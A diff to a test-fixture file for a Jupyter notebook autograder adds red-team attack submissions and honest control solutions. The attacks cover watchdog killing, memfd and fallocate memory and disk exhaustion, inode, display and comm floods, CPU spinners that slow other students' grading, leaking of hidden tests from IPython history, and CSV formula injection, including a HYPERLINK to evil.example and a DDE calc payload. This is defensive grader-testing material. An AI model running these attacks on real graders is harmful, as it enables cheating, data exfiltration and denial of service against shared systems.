@@ -50,6 +50,7 @@ class Attack:
     kills_kernel: bool = False
     secrets: bool = False  # prints ATTACK-REPORT lines the test inspects
     edit: str = ""  # a notebook-level edit the test applies too (see test_attacks.EDITS)
+    max_seconds: float = 0.0  # if set: the notebook must have been stopped within this time
 
 
 # --- wrong implementations ------------------------------------------------------------------
@@ -1570,3 +1571,577 @@ for _ in range(2):  # double fork + setsid: out of the kernel's process tree, sp
     ),
     kills_kernel=True,
 )
+
+
+# --- the red-team report's vectors (reviews/redteam-1.md), each in a version of its own ---------
+
+# The solution's own train_neuron (no solution markers), for attacks whose points, if any, could
+# only come from the grader failing to stop them (the budget, a limit).
+RIGHT_TRAIN = """
+def train_neuron(X, y, n_iter, seed):
+    X = np.asarray(X, dtype=float)
+    y = np.asarray(y, dtype=float).reshape(-1)
+    w = 2 * np.random.default_rng(seed).random(3) - 1
+    for _ in range(n_iter):
+        out = sigmoid(X @ w)
+        w = w + X.T @ ((y - out) * out * (1 - out))
+    return w
+"""
+
+RIGHT_NETWORK = """
+class OurNeuralNetwork:
+    def __init__(self):
+        self.h1 = Neuron([0, 1], 0)
+        self.h2 = Neuron([0, 1], 0)
+        self.o1 = Neuron([0, 1], 0)
+
+    def feedforward(self, x):
+        return self.o1.feedforward([self.h1.feedforward(x), self.h2.feedforward(x)])
+"""
+
+# The folder the kernel shares with the host (connection file, sockets): the only host path it
+# can write. A chain deeper than Python's recursion limit broke a recursive os.walk / rmtree.
+RUN_FOLDER = f"""
+import os as _os
+import time as _time
+from ipykernel import get_connection_file as _connection_file
+
+_RUN = _os.path.dirname(_connection_file())
+
+
+def _deep_chain(depth=1100, payload_mb=0):
+    path = _os.path.join(_RUN, "{FILE_MARK}-chain")
+    made = []
+    try:
+        _os.mkdir(path)
+        made.append(path)
+        for _ in range(depth):
+            path = _os.path.join(path, "d")
+            _os.mkdir(path)
+            made.append(path)
+        if payload_mb:
+            with open(_os.path.join(path, "{FILE_MARK}-bottom"), "wb") as f:
+                for _ in range(payload_mb):
+                    f.write(bytes(2**20))
+    except OSError:
+        pass
+    return made
+
+
+def _remove_chain(made):
+    for path in reversed(made):
+        try:
+            for name in _os.listdir(path):
+                _os.unlink(_os.path.join(path, name)) if name != "d" else None
+            _os.rmdir(path)
+        except OSError:
+            pass
+"""
+
+# Reads the calling cell's source (IPython's history of inputs): the hidden tests are in it.
+IN_HISTORY = """
+import json as _json
+import sys as _sys
+
+
+def _running_cell():
+    return get_ipython().user_ns.get("_ih", [""])[-1]
+
+
+def _hidden_sources():
+    return [s for s in get_ipython().user_ns.get("_ih", []) if "expect(" in s]
+"""
+
+# D1: a raw iopub error whose JSON escapes decode to lone surrogates (and a stream and a display
+# of the same), sent from the network's visible test cell.
+add(
+    "raw_surrogate_error",
+    FORGERY,
+    "network",
+    cell(
+        """
+_kernel = get_ipython().kernel
+
+
+def _surrogates():
+    parent, raw = _kernel.get_parent(), [
+        ("error", b'{"ename": "Bad\\\\ud800", "evalue": "\\\\udfff\\\\ud800 '
+                  b'\\\\u0000\\\\u001b[31m", "traceback": ["\\\\ud800"]}'),
+        ("stream", b'{"name": "stderr", "text": "\\\\ud800 stderr \\\\udc80\\\\n"}'),
+        ("display_data", b'{"data": {"text/plain": "\\\\ud800"}, "metadata": {}, "transient": {}}'),
+    ]
+    for msg_type, content in raw:
+        try:
+            _kernel.session.send(
+                _kernel.iopub_socket, msg_type, content, parent=parent,
+                ident=_kernel._topic(msg_type),
+            )
+        except Exception:
+            pass
+""",
+        """
+class OurNeuralNetwork:
+    def __init__(self):
+        self.h1 = Neuron([0, 1], 0)
+        self.h2 = Neuron([0, 1], 0)
+        self.o1 = Neuron([0, 1], 0)
+
+    def feedforward(self, x):
+        _surrogates()
+        return np.float64(0.5)
+""",
+    ),
+)
+# D2: kill the watchdog (a recursive walk of the deep chain died of RecursionError), then hold
+# more memory than --memory-mb 1500.
+add(
+    "watchdog_kill_hog",
+    EXHAUST,
+    "train_neuron",
+    cell(
+        WRONG_TRAIN,
+        RUN_FOLDER,
+        """
+_chain = _deep_chain()
+_time.sleep(1.5)
+_remove_chain(_chain)
+_hog = []
+for _ in range(25):  # 25 x 100 MB, touched
+    _hog.append(np.ones(100 * 2**20 // 8))
+""",
+    ),
+    kills_kernel=True,
+)
+# D3: kill the watchdog, then stall in many cells, each under the cell timeout (edit
+# "stall_cells": sleeps before train_neuron's tests, longer in all than the notebook budget). A
+# right train_neuron: its points could only come from the budget not being enforced.
+add(
+    "stall_after_watchdog_kill",
+    EXHAUST,
+    "train_neuron",
+    cell(RUN_FOLDER, "_remove_chain(_deep_chain())", RIGHT_TRAIN),
+    kills_kernel=True,
+    edit="stall_cells",
+    max_seconds=130,
+)
+# The same stall without touching the watchdog: the budget alone must stop it, between cells.
+add(
+    "stall_many_cells",
+    EXHAUST,
+    "train_neuron",
+    cell(RIGHT_TRAIN),
+    kills_kernel=True,
+    edit="stall_cells",
+    max_seconds=130,
+)
+# D4: memory the resident-set polling never sees: memfd files, written and kept open.
+add(
+    "memfd_hog",
+    EXHAUST,
+    "train_neuron",
+    cell(
+        REPORT.replace('"NAME"', '"memfd_hog"'),
+        """
+import os
+import sys
+_finish()
+sys.stdout.flush()
+_memfds = []
+_chunk = b"m" * 2**20
+try:
+    for _i in range(80):  # 80 x 32 MB, under RLIMIT_FSIZE each
+        fd = os.memfd_create("agattack-memfd-%d" % _i)
+        _memfds.append(fd)
+        for _ in range(32):
+            os.write(fd, _chunk)
+except (OSError, KeyboardInterrupt) as _e:
+    _report["listed"]["stopped"] = [type(_e).__name__]
+_report["listed"]["held_mb"] = [str(32 * len(_memfds))]
+if 32 * len(_memfds) > 1500:
+    _report["hits"].append("held %d MB of memfd under a 1500 MB cap" % (32 * len(_memfds)))
+_finish()
+""",
+        WRONG_TRAIN,
+    ),
+    kills_kernel=True,
+)
+# D5: fallocate(KEEP_SIZE) reserves blocks that st_size does not show and RLIMIT_FSIZE does not
+# limit: on files in the run folder, and on every descriptor the kernel holds that names a
+# regular file it did not open itself (an inherited descriptor of the grader). Reports what it
+# got (hits: more than the run folder's cap, or any inherited host file).
+add(
+    "fallocate_keep_size",
+    EXHAUST,
+    "train_neuron",
+    cell(
+        REPORT.replace('"NAME"', '"fallocate_keep_size"'),
+        RUN_FOLDER,
+        """
+import ctypes
+import fcntl
+import stat
+import sys
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
+_KEEP_SIZE = 1
+
+
+def _reserve(fd, size):
+    return _libc.fallocate(fd, _KEEP_SIZE, 0, size) == 0
+
+
+_fds = []
+for _name in sorted(_os.listdir("/proc/self/fd"), key=int):
+    try:
+        _target = _os.readlink("/proc/self/fd/" + _name)
+        _mode = _os.fstat(int(_name)).st_mode
+    except OSError:
+        continue
+    _kind = "file" if stat.S_ISREG(_mode) else "dir" if stat.S_ISDIR(_mode) else "other"
+    _writable = fcntl.fcntl(int(_name), fcntl.F_GETFL) & (_os.O_WRONLY | _os.O_RDWR)
+    _fds.append("%s %s%s %s" % (_name, _kind, "-w" if _writable else "-r", _target))
+    _own = _target.startswith(("/home/student/", _RUN))
+    if _kind == "file" and not _own:
+        if _writable:
+            _report["hits"].append("a writable host file: fd %s (%s)" % (_name, _target))
+        if _reserve(int(_name), 256 << 20):
+            _report["hits"].append("reserved 256 MB on fd %s (%s)" % (_name, _target))
+_report["listed"]["fds"] = _fds
+_finish()
+sys.stdout.flush()
+
+_reserved, _files = 0, []
+for _i in range(32):  # up to 32 x 32 MB in the run folder
+    try:
+        _fd = _os.open(_os.path.join(_RUN, "agattack-falloc-%d" % _i), _os.O_CREAT | _os.O_WRONLY)
+    except OSError:
+        break
+    _files.append(_fd)
+    if not _reserve(_fd, 32 << 20):
+        break
+    _reserved += 32
+_report["listed"]["reserved_mb"] = [str(_reserved)]
+if _reserved > 300:
+    _report["hits"].append("reserved %d MB in the run folder" % _reserved)
+_finish()
+sys.stdout.flush()
+""",
+        WRONG_TRAIN,
+    ),
+    kills_kernel=True,
+    secrets=True,
+)
+# D6: inodes, not bytes: many empty folders and files in the run folder (bounded: 20 s).
+add(
+    "empty_inodes",
+    EXHAUST,
+    "train_neuron",
+    cell(
+        WRONG_TRAIN,
+        RUN_FOLDER,
+        f"""
+_end = _time.monotonic() + 20
+_top = _os.path.join(_RUN, "{FILE_MARK}-inodes")
+try:
+    _os.mkdir(_top)
+    for _i in range(300_000):
+        if _time.monotonic() > _end:
+            break
+        if _i % 3:
+            open(_os.path.join(_top, "f%d" % _i), "w").close()
+        else:
+            _os.mkdir(_os.path.join(_top, "d%d" % _i))
+except OSError:
+    pass
+_time.sleep(3)
+""",
+    ),
+    kills_kernel=True,
+    max_seconds=60,
+)
+# C1: the deep chain, a file at its bottom, left behind for the cleanup to trip on.
+add(
+    "deep_chain_leftover",
+    EXHAUST,
+    "train_neuron",
+    cell(WRONG_TRAIN, RUN_FOLDER, "_deep_chain(payload_mb=32)\n_time.sleep(3)"),
+    kills_kernel=True,
+)
+# D7: update_display_data rewrites every earlier output with its id: 1000 tiny displays, then
+# updates of 300 kB each, in this cell and after every later one.
+add(
+    "display_update_amplify",
+    EXHAUST,
+    "train_neuron",
+    cell(
+        WRONG_TRAIN,
+        """
+from IPython.display import display, update_display
+
+
+def _amplify(*_):
+    for _ in range(250):
+        display({"text/plain": "."}, raw=True, display_id="agattack-amp")
+    for _ in range(3):
+        update_display({"text/plain": "A" * 300_000}, raw=True, display_id="agattack-amp")
+
+
+_amplify()
+_amplify()
+get_ipython().events.register("post_run_cell", _amplify)
+""",
+    ),
+)
+# D7: comm messages (widget state, kept by nbclient for the notebook's metadata), 60 MB of them
+# (a well-formed state: nbclient's widget handler raises KeyError on one without _model_module).
+add(
+    "comm_flood",
+    EXHAUST,
+    "train_neuron",
+    cell(
+        WRONG_TRAIN,
+        """
+try:
+    from comm import create_comm as _create_comm
+except ImportError:
+    from ipykernel.comm import Comm as _create_comm
+_comms = []
+for _i in range(100):
+    _c = _create_comm(
+        target_name="jupyter.widget",
+        data={
+            "state": {"_model_name": "A", "_model_module": "agattack", "_model_module_version": "1",
+                      "v": "B" * 200_000},
+            "buffer_paths": [],
+        },
+    )
+    for _k in range(2):
+        _c.send({"method": "update", "state": {"k%d" % _k: "C" * 200_000}, "buffer_paths": []})
+    _comms.append(_c)
+""",
+    ),
+)
+# D8: CPU spinners, each in a session (an autogroup) of its own, for 30 s; the kernel lingers
+# 7 s after every cell so that the students graded meanwhile share the CPU with them. Named to
+# be graded just before the honest students.
+add(
+    "hog_cpu_setsid",
+    EXHAUST,
+    "train_neuron",
+    cell(
+        WRONG_TRAIN,
+        f"""
+import subprocess
+import time
+_spinners = []
+for _ in range(20):
+    try:
+        _spinners.append(subprocess.Popen(
+            ["timeout", "-s", "KILL", "30", "sh", "-c", "while :; do :; done", "{FILE_MARK}-spin"],
+            start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+        ))
+    except OSError:
+        break
+
+
+def _linger(*_):
+    time.sleep(7)
+
+
+get_ipython().events.register("post_run_cell", _linger)
+_linger()
+""",
+    ),
+    kills_kernel=True,
+)
+# B1: a hidden test cell's error carries the hidden tests' source (IPython's history holds every
+# cell run so far), in its message (with the prefix the grader once quoted) or its class name.
+add(
+    "leak_hidden_message",
+    SECRETS,
+    "train_neuron",
+    cell(
+        IN_HISTORY,
+        RIGHT_TRAIN.replace(
+            "def train_neuron(X, y, n_iter, seed):\n",
+            "def train_neuron(X, y, n_iter, seed):\n"
+            "    if 'expect(' in _running_cell():\n"
+            "        raise RuntimeError('Скрытая проверка: ' + _json.dumps(_hidden_sources()))\n",
+        ),
+    ),
+    ceiling=VISIBLE["train_neuron"],
+)
+add(
+    "leak_hidden_ename",
+    SECRETS,
+    "train_neuron",
+    cell(
+        IN_HISTORY,
+        RIGHT_TRAIN.replace(
+            "def train_neuron(X, y, n_iter, seed):\n",
+            "def train_neuron(X, y, n_iter, seed):\n"
+            "    if 'expect(' in _running_cell():\n"
+            "        raise type(_json.dumps(_hidden_sources()), (Exception,), {})('x')\n",
+        ),
+    ),
+    ceiling=VISIBLE["train_neuron"],
+)
+# B1 through a visible test cell: by the network's visible cell, the hidden tests of sigmoid and
+# neuron have run, and a visible cell's error message is shown to the student.
+add(
+    "leak_hidden_visible",
+    SECRETS,
+    "network",
+    cell(
+        IN_HISTORY,
+        """
+class OurNeuralNetwork:
+    def __init__(self):
+        self.h1 = Neuron([0, 1], 0)
+        self.h2 = Neuron([0, 1], 0)
+        self.o1 = Neuron([0, 1], 0)
+
+    def feedforward(self, x):
+        if "assert_close" in _running_cell():
+            hidden = _hidden_sources()
+            raise RuntimeError(_json.dumps(hidden) + "\\n" + "\\n".join(hidden))
+        return np.float64(0.5)
+""",
+    ),
+)
+# B1 through the grader's own verdict on a hidden cell: a report the kernel forges (its key is
+# quoted as "лишний результат ...") and a value of a class of the kernel's naming (quoted as
+# "получен объект ..."). A right train_neuron everywhere else.
+add(
+    "leak_hidden_forged_key",
+    SECRETS,
+    "train_neuron",
+    cell(
+        IN_HISTORY,
+        """
+from IPython.display import display as _display
+import autograder.checks as _checks
+""",
+        RIGHT_TRAIN.replace(
+            "def train_neuron(X, y, n_iter, seed):\n",
+            "def train_neuron(X, y, n_iter, seed):\n"
+            "    if 'expect(' in _running_cell():\n"
+            "        _leak = _json.dumps(_hidden_sources())\n"
+            "        _leak = _leak[_leak.index('BEGIN'):][:250]\n"
+            "        _display({_checks.RECORD_MIME: {'key': _leak, 'value': 0}}, raw=True)\n",
+        ),
+    ),
+    ceiling=VISIBLE["train_neuron"],
+)
+add(
+    "leak_hidden_object_name",
+    SECRETS,
+    "train_neuron",
+    cell(
+        IN_HISTORY,
+        RIGHT_TRAIN.replace(
+            "def train_neuron(X, y, n_iter, seed):\n",
+            "def train_neuron(X, y, n_iter, seed):\n"
+            "    if 'expect(' in _running_cell():\n"
+            "        _leak = _json.dumps(_hidden_sources())\n"
+            "        return type(_leak[_leak.index('BEGIN'):][:250], (), {})()\n",
+        ),
+    ),
+    ceiling=VISIBLE["train_neuron"],
+)
+# D9: an exception class named like a spreadsheet formula, raised in a visible test: the reason
+# column of exercises.csv starts with it. One formula start per exercise that has room for it.
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A2&C2&F2,"подробнее")&"'
+add(
+    "csv_formula_reason",
+    FORGERY,
+    "network",
+    cell(
+        f"""
+_FORMULA = {FORMULA!r}
+""",
+        """
+class OurNeuralNetwork:
+    def __init__(self):
+        self.h1 = Neuron([0, 1], 0)
+        self.h2 = Neuron([0, 1], 0)
+        self.o1 = Neuron([0, 1], 0)
+
+    def feedforward(self, x):
+        if x == [2, 3]:
+            raise type(_FORMULA, (Exception,), {})('"')
+        return np.float64(0.5)
+""",
+    ),
+)
+add(
+    "csv_formula_tab",
+    FORGERY,
+    "train_neuron",
+    cell(
+        """
+def train_neuron(X, y, n_iter, seed):
+    raise type("\\t@SUM(1+1)*cmd|' /C calc'!A0", (Exception,), {})("+1+1")
+"""
+    ),
+)
+
+
+# --- honest controls: right answers in styles the grader must not punish -------------------------
+
+HONEST_CONTROLS: list[tuple[str, str, str]] = [
+    # E1: the notebook's own check helper called inside the student's function.
+    (
+        "honest_checks_inside",
+        "sigmoid",
+        cell(
+            """
+def sigmoid(x):
+    x = np.asarray(x, dtype=float)
+    out = 1.0 / (1.0 + np.exp(-x))
+    assert_shape(out, x.shape, name="форма выхода sigmoid")
+    return out
+"""
+        ),
+    ),
+    # E2: the usual live-progress idiom, at every step.
+    (
+        "honest_live_progress",
+        "train_neuron",
+        cell(
+            """
+from IPython.display import clear_output
+
+
+def train_neuron(X, y, n_iter, seed):
+    X = np.asarray(X, dtype=float)
+    y = np.asarray(y, dtype=float).reshape(-1)
+    w = 2 * np.random.default_rng(seed).random(3) - 1
+    for i in range(n_iter):
+        out = sigmoid(X @ w)
+        w = w + X.T @ ((y - out) * out * (1 - out))
+        clear_output(wait=True)
+        print(f"обучение: шаг {i + 1}/{n_iter}")
+    return w
+"""
+        ),
+    ),
+    (
+        "honest_progress_flush",
+        "train_neuron",
+        cell(
+            """
+def train_neuron(X, y, n_iter, seed):
+    X = np.asarray(X, dtype=float)
+    y = np.asarray(y, dtype=float).reshape(-1)
+    w = 2 * np.random.default_rng(seed).random(3) - 1
+    for i in range(n_iter):
+        out = sigmoid(X @ w)
+        w = w + X.T @ ((y - out) * out * (1 - out))
+        print(f"\\rшаг {i + 1}/{n_iter}", end="", flush=True)
+    return w
+"""
+        ),
+    ),
+]
